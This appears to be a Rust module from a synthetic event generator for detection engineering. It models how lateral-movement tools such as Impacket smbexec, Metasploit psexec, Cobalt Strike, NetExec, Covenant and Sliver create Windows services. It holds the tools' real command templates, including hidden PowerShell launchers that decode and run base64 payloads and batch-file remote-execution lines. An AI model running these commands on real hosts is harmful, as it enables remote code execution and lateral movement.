//! What each tool family does on its target, drawn for one execution, from the tools' public
//! source and its history: each family draws one of the spellings its versions used, so a
//! generated scenario holds old and new builds side by side (see `docs/fingerprints.md` for the
//! table of variants and the source, file and version range of each).

use super::events::ServiceSpec;
use super::rng::Rng;
use super::tools::{Client, Origin, PipeImpersonation, Plan, Removal, Source, Start, ms, own, us};

/// Base64-looking text of `n` characters (stands in for an encoded payload).
pub(super) fn base64ish(rng: &mut Rng, n: usize) -> String {
    const L: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s: String = (0..n).map(|_| char::from(*rng.pick(L))).collect();
    s.push('=');
    s
}

/// `n` distinct ASCII letters (Python's `random.sample(string.ascii_letters, n)`, as
/// CrackMapExec and NetExec draw names).
fn distinct_letters(rng: &mut Rng, n: usize) -> String {
    let mut pool: Vec<u8> = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ".to_vec();
    let mut out = String::new();
    for _ in 0..n.min(pool.len()) {
        let i = rng.below(pool.len() as u64) as usize;
        out.push(char::from(pool.swap_remove(i)));
    }
    out
}

/// `n` upper-case letters A–Y (`Get-Random -Minimum 65 -Maximum 90`: the maximum is
/// exclusive), as Invoke-SMBExec draws its service name.
fn upper_a_to_y(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from(b'A' + rng.below(25) as u8))
        .collect()
}

/// `n` characters of `A–Z0–9` (Covenant's `GenerateRandomString`).
fn upper_alnum(rng: &mut Rng, n: usize) -> String {
    const L: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    (0..n).map(|_| char::from(*rng.pick(L))).collect()
}

const COMMANDS: [&str; 6] = [
    "whoami",
    "ipconfig /all",
    "net localgroup administrators",
    "tasklist",
    "cd",
    "hostname",
];

/// What `tool` does, drawn for one execution from `src`.
pub fn plan(tool: &str, target: &str, src: &Source, rng: &mut Rng) -> Plan {
    let pid = rng.range(1200, 9800);
    let srch = src.workstation.to_uppercase();
    let minutes = |rng: &mut Rng, lo: i64, hi: i64| ms(rng.range(lo * 60_000, hi * 60_000));
    let mut p = Plan::new();
    match tool {
        // Sysinternals PsExec (closed source; documented switches, pipes as real logs show).
        "psexec" => {
            let name = if rng.chance(0.3) {
                p.variant = Some("renamed (-r)".into());
                rng.pick(&["svcmgmt", "WinSysHelper", "updsvc", "MSDTCHelper"])
                    .to_string()
            } else {
                "PSEXESVC".to_string()
            };
            p.svc = own(&name, &name, format!(r"%SystemRoot%\{name}.exe"), 3);
            p.uploads.push(("ADMIN$", format!("{name}.exe")));
            p.pipes.push(name.clone());
            for s in ["stdin", "stdout", "stderr"] {
                p.pipes.push(format!("{name}-{srch}-{pid}-{s}"));
            }
            p.removal = Removal::OnExit(minutes(rng, 1, 25));
            p.delete_open_before = Some(us(rng.range(1500, 4500)));
        }
        // poweradminllc/PAExec Remote.cpp: `PAExec-<pid>-<client>`, `<share path>\<name>.exe
        // -service` (`%SystemRoot%` 2013–2019, `%SYSTEMROOT%` from 1.27), pipes
        // ConsoleRedir.cpp `PAExecIn<client><pid>`…
        "paexec" => {
            let name = format!("PAExec-{pid}-{srch}");
            let root = if rng.chance(0.5) {
                p.variant = Some("1.26 and older".into());
                "%SystemRoot%"
            } else {
                "%SYSTEMROOT%"
            };
            p.svc = own(&name, &name, format!(r"{root}\{name}.exe -service"), 3);
            p.uploads.push(("ADMIN$", format!("{name}.exe")));
            p.pipes.push(format!("{name}.exe"));
            for s in ["In", "Out", "Err"] {
                p.pipes.push(format!("PAExec{s}{srch}{pid}"));
            }
            p.removal = Removal::OnExit(minutes(rng, 1, 30));
        }
        // kavika13/RemCom RemCom.h/RemCom.cpp: RemComSvc, "RemCom Service",
        // `%SystemRoot%\system32\RemComSvc.exe` copied to ADMIN$\System32.
        "remcom" => {
            p.svc = own(
                "RemComSvc",
                "RemCom Service",
                r"%SystemRoot%\system32\RemComSvc.exe".into(),
                3,
            );
            p.uploads.push(("ADMIN$", r"System32\RemComSvc.exe".into()));
            p.pipes.push("RemCom_communicaton".into());
            for s in ["stdin", "stdout", "stderr"] {
                p.pipes.push(format!("RemCom_{s}{srch}{pid}"));
            }
            p.removal = Removal::OnExit(minutes(rng, 1, 20));
        }
        // malcomvetter/CSExec Program.cs/GlobalVars.cs: csexecsvc, "CSExec Service", the bare
        // file name `csexecsvc.exe` (copied to admin$\system32), auto start.
        "csexec" => {
            p.svc = own("csexecsvc", "CSExec Service", "csexecsvc.exe".into(), 2);
            p.uploads.push(("ADMIN$", r"system32\csexecsvc.exe".into()));
            p.pipes.push("csexecsvc".into());
            p.removal = Removal::OnExit(minutes(rng, 1, 15));
        }
        // fortra/impacket serviceinstall.py / psexec.py: 4 letters, `%systemroot%\<8>.exe`
        // (`-remote-binary-name` since 2019), RemCom's pipes, removed when the shell exits.
        "impacket-psexec" => {
            let name = rng.letters(4);
            let file = if rng.chance(0.2) {
                p.variant = Some("-remote-binary-name".into());
                rng.pick(&["svchost32", "WinUpdate", "taskhost64"])
                    .to_string()
            } else {
                rng.letters(8)
            };
            p.svc = own(&name, &name, format!(r"%systemroot%\{file}.exe"), 3);
            p.uploads.push(("ADMIN$", format!("{file}.exe")));
            p.pipes.push("RemCom_communicaton".into());
            for s in ["stdin", "stdout", "stderr"] {
                p.pipes.push(format!("RemCom_{s}{}{pid}", rng.letters(4)));
            }
            p.removal = Removal::OnExit(minutes(rng, 60, 7 * 60));
            p.origin = Origin::Network { ntlm: true };
        }
        // fortra/impacket examples/smbexec.py, every spelling of its history.
        "impacket-smbexec" => {
            let cmd = *rng.pick(&COMMANDS);
            let (version, name, image, read) = impacket_smbexec(rng, cmd);
            p.variant = Some(version.into());
            p.svc = own(&name, &name, image, 3);
            p.start = Start::Command;
            p.reads.push(read);
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_060)));
            p.origin = Origin::Network { ntlm: true };
        }
        // fortra/impacket examples/services.py `create`: the operator's name and binary;
        // hRCreateServiceW's default start type is auto.
        "impacket-services" => {
            let name = rng
                .pick(&[
                    "WinUpdateHelper",
                    "AdobeFlashSvc",
                    "SysMaint",
                    "EdgeUpdater",
                ])
                .to_string();
            let image = format!(r"C:\Windows\Temp\{}.exe", rng.letters(6).to_lowercase());
            p.svc = own(&name, &name, image, 2);
            p.origin = Origin::Network { ntlm: true };
            p.start_after = (4_000, 40_000);
        }
        // rapid7/metasploit-framework lib/msf/core/exploit/remote/smb/client/psexec.rb
        // (native_upload, execute_command) and the 2011 module (display `M…`, type 0x110).
        "metasploit-psexec" => {
            let name = rng.letters(8);
            let display = rng.letters(16);
            let file = rng.letters(8);
            match rng.below(4) {
                0 => {
                    p.variant = Some("2011 module".into());
                    let len = 1 + rng.below(30) as usize;
                    let old = format!("M{}", rng.letters(len));
                    p.svc = own(&name, &old, format!(r"%SYSTEMROOT%\{file}.exe"), 3);
                    p.svc.service_type = 0x110;
                    p.uploads.push(("ADMIN$", format!("{file}.exe")));
                }
                1 => {
                    p.variant = Some("command target".into());
                    let (a, b) = (8 + rng.below(9) as usize, 8 + rng.below(9) as usize);
                    let txt = rng.letters(a);
                    let bat = rng.letters(b);
                    let cmd = *rng.pick(&COMMANDS);
                    let image = format!(
                        r"%COMSPEC% /C echo {cmd} ^> %SYSTEMDRIVE%\Windows\Temp\{txt}.txt > \Windows\Temp\{bat}.bat & %COMSPEC% /C start %COMSPEC% /C \Windows\Temp\{bat}.bat"
                    );
                    p.svc = own(&name, &display, image, 3);
                    p.start = Start::Command;
                    p.reads.push(("C$", format!(r"Windows\Temp\{txt}.txt")));
                }
                _ => {
                    p.svc = own(&name, &display, format!(r"%SYSTEMROOT%\{file}.exe"), 3);
                    p.uploads.push(("ADMIN$", format!("{file}.exe")));
                }
            }
            p.removal = if p.start == Start::Command {
                Removal::Immediate(ms(rng.range(30_005, 30_080)))
            } else {
                Removal::Immediate(ms(rng.range(300, 1200)))
            };
            p.origin = Origin::Network { ntlm: true };
        }
        // rapid7/rex-powershell lib/rex/powershell/command.rb cmd_psh_payload: `%COMSPEC% /b /c
        // start /b /min powershell.exe -nop -w hidden …`; `-noni -c` (2017 on), `-e` with
        // PSH::encode_final_payload, `-c` alone before `-noni` was added.
        "metasploit-psexec-psh" => {
            let name = rng.letters(8);
            let display = rng.letters(16);
            let b64 = base64ish(rng, 240);
            let image = match rng.below(3) {
                0 => {
                    p.variant = Some("encode_final_payload".into());
                    format!(
                        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -e {}",
                        base64ish(rng, 400)
                    )
                }
                1 => {
                    p.variant = Some("2014–2016".into());
                    format!(
                        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -c \"if([IntPtr]::Size -eq 4){{$b='powershell.exe'}}else{{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'}};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-nop -w hidden -c $s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(''{b64}''))';$p=[System.Diagnostics.Process]::Start($s);\""
                    )
                }
                _ => format!(
                    "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"if([IntPtr]::Size -eq 4){{$b='powershell.exe'}}else{{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'}};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-noni -nop -w hidden -c &([scriptblock]::create((New-Object System.IO.StreamReader(New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::FromBase64String(''{b64}''))),[System.IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))';$s.UseShellExecute=$false;$s.RedirectStandardOutput=$true;$s.WindowStyle='Hidden';$s.CreateNoWindow=$true;$p=[System.Diagnostics.Process]::Start($s);\""
                ),
            };
            p.svc = own(&name, &display, image, 3);
            p.start = Start::Command;
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_080)));
            p.origin = Origin::Network { ntlm: true };
        }
        // Cobalt Strike (closed source; documented `jump psexec`/`psexec64`, SigmaHQ's service
        // rules): service exe at `\\127.0.0.1\ADMIN$\<random>.exe`.
        "cobaltstrike-psexec" => {
            let name = rng.alnum(7);
            p.svc = own(&name, &name, format!(r"\\127.0.0.1\ADMIN$\{name}.exe"), 3);
            p.uploads.push(("ADMIN$", format!("{name}.exe")));
            p.removal = Removal::Immediate(ms(rng.range(400, 1500)));
        }
        "cobaltstrike-psexec-psh" => {
            let name = rng.alnum(7);
            let image = format!(
                "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand {}",
                base64ish(rng, 320)
            );
            p.svc = own(&name, &name, image, 3);
            p.start = Start::Command;
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_080)));
        }
        // byt3bl33d3r/CrackMapExec and Pennyw0rth/NetExec protocols/smb/smbexec.py.
        "netexec-smbexec" => {
            let name = distinct_letters(rng, 10);
            let out = distinct_letters(rng, 6);
            let bat = distinct_letters(rng, 6);
            let cmd = *rng.pick(&["whoami /all", "hostname", "net user", "systeminfo"]);
            let (image, auto) = match rng.below(4) {
                0 => {
                    p.variant = Some("CrackMapExec 4 (hosted batch, 2016)".into());
                    (
                        format!(
                            r"%COMSPEC% /Q /c \\{}\{}\{bat}.bat",
                            src.ip,
                            out.to_uppercase()
                        ),
                        true,
                    )
                }
                1 => {
                    p.variant = Some("CrackMapExec 5 (2021–2023)".into());
                    (
                        format!(
                            r"%COMSPEC% /Q /c echo {cmd} ^> \\127.0.0.1\C$\{out} 2^>^&1 > %TEMP%\{bat}.bat & %COMSPEC% /Q /c %TEMP%\{bat}.bat & %COMSPEC% /Q /c del %TEMP%\{bat}.bat"
                        ),
                        false,
                    )
                }
                2 => {
                    p.variant = Some("--no-output".into());
                    (format!(r"%COMSPEC% /Q /c {cmd}"), false)
                }
                _ => (
                    format!(
                        r"%COMSPEC% /Q /c echo {cmd} ^> \\%COMPUTERNAME%\C$\{out} 2^>^&1 > %TEMP%\{bat}.bat & %COMSPEC% /Q /c %TEMP%\{bat}.bat & %COMSPEC% /Q /c del %TEMP%\{bat}.bat"
                    ),
                    false,
                ),
            };
            p.svc = own(&name, &name, image, if auto { 2 } else { 3 });
            p.start = Start::Command;
            if !p.svc.image.ends_with(".bat") && p.svc.image.contains("^>") {
                p.reads.push(("C$", out));
            }
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_060)));
            p.origin = Origin::Network { ntlm: true };
        }
        // winexe (Andrzej Hajda, 2009–2013): winexesvc, the bare `winexesvc.exe` in ADMIN$,
        // pipe `ahexec`, left installed.
        "winexe" => {
            p.svc = own("winexesvc", "winexesvc", "winexesvc.exe".into(), 3);
            p.uploads.push(("ADMIN$", "winexesvc.exe".into()));
            p.pipes.push("ahexec".into());
            p.origin = Origin::Network { ntlm: true };
        }
        // rapid7/metasploit-payloads c/meterpreter/source/extensions/priv/namedpipe.c
        // technique 1: `cmd.exe /c echo <name> > \\.\pipe\<name>`, the name
        // `rand_text_alpha_lower(6)` (priv.rb), run from a local Meterpreter session that
        // created the pipe.
        "getsystem" => {
            let name = rng.letters(6).to_lowercase();
            let image = format!(r"cmd.exe /c echo {name} > \\.\pipe\{name}");
            p.svc = own(&name, &name, image, 3);
            p.start = Start::Command;
            p.pipes.clear();
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_040)));
            p.origin = Origin::Interactive {
                logon_type: 2,
                logon_logged: true,
            };
            p.impersonation = Some(PipeImpersonation {
                pipe: name,
                creator_image: r"C:\Users\Public\update.exe".into(),
            });
            p.verdict = "privilege-escalation";
        }
        // Kevin-Robertson/Invoke-TheHash Invoke-SMBExec.ps1 (2017–2018, also in Empire): 20
        // letters A–Y, display = name, `%COMSPEC% /C "<command>"` (or `"<command>"` with
        // -CommandCOMSPEC N), demand start, deleted at once; NTLM pass-the-hash.
        "invoke-smbexec" => {
            let name = upper_a_to_y(rng, 20);
            let cmd = *rng.pick(&COMMANDS);
            let image = if rng.chance(0.2) {
                p.variant = Some("-CommandCOMSPEC N".into());
                format!("\"{cmd}\"")
            } else {
                format!("%COMSPEC% /C \"{cmd}\"")
            };
            p.svc = own(&name, &name, image, 3);
            p.start = Start::Command;
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_060)));
            p.origin = Origin::Network { ntlm: true };
        }
        // HarmJ0y's Invoke-PsExec (Veil PowerTools, Empire data/module_source/lateral_movement/
        // Invoke-PsExec.ps1): CreateServiceA(name, name, 0x10, demand), `TestSVC` by default
        // (Empire's module: `Updater`); -Command as given, -ResultFile's echo into
        // `%systemroot%\Temp\<12>.txt`, or -ServiceEXE at `\\<target>\Admin$\<exe>`.
        "invoke-psexec" => {
            let name = rng.pick(&["TestSVC", "Updater", "Updater32"]).to_string();
            let cmd = *rng.pick(&COMMANDS);
            let image = match rng.below(3) {
                0 => {
                    p.variant = Some("-ResultFile".into());
                    let txt = rng.letters(12);
                    let bat = rng.letters(12);
                    p.reads.push(("ADMIN$", format!(r"Temp\{txt}.txt")));
                    format!(
                        r"%COMSPEC% /C echo {cmd} ^> %systemroot%\Temp\{txt}.txt > %systemroot%\Temp\{bat}.bat & %COMSPEC% /C start %COMSPEC% /C %systemroot%\Temp\{bat}.bat"
                    )
                }
                1 => {
                    p.variant = Some("-ServiceEXE".into());
                    let exe = format!("{}.exe", rng.letters(8).to_lowercase());
                    p.uploads.push(("ADMIN$", exe.clone()));
                    format!(r"\\{target}\Admin$\{exe}")
                }
                _ => format!("%COMSPEC% /C start /b {cmd}"),
            };
            p.start = if p.uploads.is_empty() {
                Start::Command
            } else {
                Start::Service
            };
            p.svc = own(&name, &name, image, 3);
            p.removal = Removal::Immediate(ms(rng.range(1_000, 31_000)));
        }
        // cobbr/Covenant PSExecCommand task (SharpSploit SCM, 2021): 8 characters A–Z0–9, no
        // display name, the command as the image (Covenant's PowerShell launcher here:
        // `powershell -Sta -Nop -Window Hidden -EncodedCommand`); SharpSploit's own PSExec:
        // `SharpSploit` / `SharpSploit Service`.
        "covenant-psexec" => {
            let launcher = format!(
                "powershell -Sta -Nop -Window Hidden -EncodedCommand {}",
                base64ish(rng, 300)
            );
            if rng.chance(0.3) {
                p.variant = Some("SharpSploit PSExec".into());
                p.svc = own("SharpSploit", "SharpSploit Service", launcher, 3);
            } else {
                let name = upper_alnum(rng, 8);
                p.svc = own(&name, &name, launcher, 3);
            }
            p.start = Start::Command;
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_100)));
        }
        // djhohnstein/SharpSC (Covenant's SharpSC task): `action=create` with the operator's
        // names and binary, CreateService with SERVICE_AUTO_START; started by a later
        // `action=start`, from a Windows host (Kerberos).
        "sharpsc" => {
            let name = rng
                .pick(&["MyService", "SvcHost32", "UpdateSvc"])
                .to_string();
            let file = format!("{}.exe", rng.letters(7).to_lowercase());
            p.uploads.push(("C$", format!(r"Users\Public\{file}")));
            p.svc = own(&name, &name, format!(r"C:\Users\Public\{file}"), 2);
            p.start_after = (4_000, 40_000);
        }
        // anthemtotheego/SharpExec ManageService.cs: `Legit` / `Totes Legit`, auto start,
        // `C:\WINDOWS\system32\cmd.exe /c <path> <args>`; its smbexec mode echoes into
        // `\\<target>\C$\__LegitFile`.
        "sharpexec" => {
            let image = if rng.chance(0.5) {
                p.variant = Some("smbexec".into());
                let cmd = *rng.pick(&COMMANDS);
                p.reads.push(("C$", "__LegitFile".into()));
                format!(
                    r"%COMSPEC% /Q /c echo {cmd} ^> \\{target}\C$\__LegitFile 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat"
                )
            } else {
                p.uploads.push(("C$", r"Users\Public\evil.exe".into()));
                r"C:\WINDOWS\system32\cmd.exe /c C:\Users\Public\evil.exe -run".to_string()
            };
            let start = if p.reads.is_empty() { 2 } else { 3 };
            p.svc = own("Legit", "Totes Legit", image, start);
            p.start = Start::Command;
            p.removal = Removal::Immediate(ms(rng.range(30_005, 30_100)));
        }
        // BishopFox/sliver client/command/exec/psexec.go + implant service_windows.go:
        // `Sliver` (display = name, description `Sliver implant`), `c:\windows\temp\<random>.exe`
        // uploaded over C$, manual start, removed after the start.
        "sliver-psexec" => {
            let file = format!("{}{}", rng.alnum(2).to_lowercase(), rng.letters(6));
            p.uploads.push(("C$", format!(r"windows\temp\{file}.exe")));
            p.svc = own(
                "Sliver",
                "Sliver",
                format!(r"c:\windows\temp\{file}.exe"),
                3,
            );
            p.removal = Removal::Immediate(ms(rng.range(500, 3000)));
        }
        other => panic!("unknown tool {other}"),
    }
    p
}

/// One Impacket smbexec.py execution, in one of the spellings of its history: (version,
/// service name, image path, the output file it reads back).
fn impacket_smbexec(
    rng: &mut Rng,
    cmd: &str,
) -> (&'static str, String, String, (&'static str, String)) {
    let random_bat = |rng: &mut Rng| format!(r"%SYSTEMROOT%\{}.bat", rng.letters(8));
    match rng.below(6) {
        // 2013–2016: output under \Windows\Temp, no stderr redirection.
        0 => (
            "2013",
            "BTOBTO".into(),
            format!(
                r"%COMSPEC% /Q /c echo {cmd} ^> \Windows\Temp\__output > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat"
            ),
            ("C$", r"Windows\Temp\__output".into()),
        ),
        // 2016–2023-02: `\\127.0.0.1\<share>\__output 2^>^&1`, %TEMP%\execute.bat.
        1 => (
            "2016",
            "BTOBTO".into(),
            format!(
                r"%COMSPEC% /Q /c echo {cmd} ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat"
            ),
            ("C$", "__output".into()),
        ),
        // 2021 on: the PowerShell shell type echoes an encoded PowerShell command.
        2 => {
            let bat = random_bat(rng);
            (
                "powershell",
                rng.letters(8),
                format!(
                    r"%COMSPEC% /Q /c echo powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc {} ^> \\%COMPUTERNAME%\C$\__output 2^>^&1 > {bat} & %COMSPEC% /Q /c {bat} & del {bat}",
                    base64ish(rng, 60)
                ),
                ("C$", "__output".into()),
            )
        }
        // 2023-03 to 2023-05: random batch, %COMPUTERNAME%, still BTOBTO; here with -share ADMIN$.
        3 => {
            let bat = random_bat(rng);
            (
                "2023-03 -share ADMIN$",
                "BTOBTO".into(),
                format!(
                    r"%COMSPEC% /Q /c echo {cmd} ^> \\%COMPUTERNAME%\ADMIN$\__output 2^>^&1 > {bat} & %COMSPEC% /Q /c {bat} & del {bat}"
                ),
                ("ADMIN$", "__output".into()),
            )
        }
        // 2023-05 to 2025-05: 8 random letters for the service.
        4 => {
            let bat = random_bat(rng);
            (
                "2023-05",
                rng.letters(8),
                format!(
                    r"%COMSPEC% /Q /c echo {cmd} ^> \\%COMPUTERNAME%\C$\__output 2^>^&1 > {bat} & %COMSPEC% /Q /c {bat} & del {bat}"
                ),
                ("C$", "__output".into()),
            )
        }
        // 2025-05 on: `__output_<8 letters>`.
        _ => {
            let bat = random_bat(rng);
            let out = format!("__output_{}", rng.letters(8));
            (
                "2025",
                rng.letters(8),
                format!(
                    r"%COMSPEC% /Q /c echo {cmd} ^> \\%COMPUTERNAME%\C$\{out} 2^>^&1 > {bat} & %COMSPEC% /Q /c {bat} & del {bat}"
                ),
                ("C$", out),
            )
        }
    }
}

/// A local client that installs a service: `(image, command line, OriginalFileName)`.
pub fn client(image: &str, command_line: &str, original: &str) -> Client {
    Client {
        image: image.into(),
        command_line: command_line.into(),
        original_file_name: original.into(),
        explicit_to: None,
    }
}

/// A service spec for a driver.
pub fn driver(name: &str, display: &str, image: &str, start: u32) -> ServiceSpec {
    ServiceSpec {
        name: name.into(),
        display: display.into(),
        image: image.into(),
        service_type: 0x1,
        start_type: start,
        account: String::new(),
    }
}
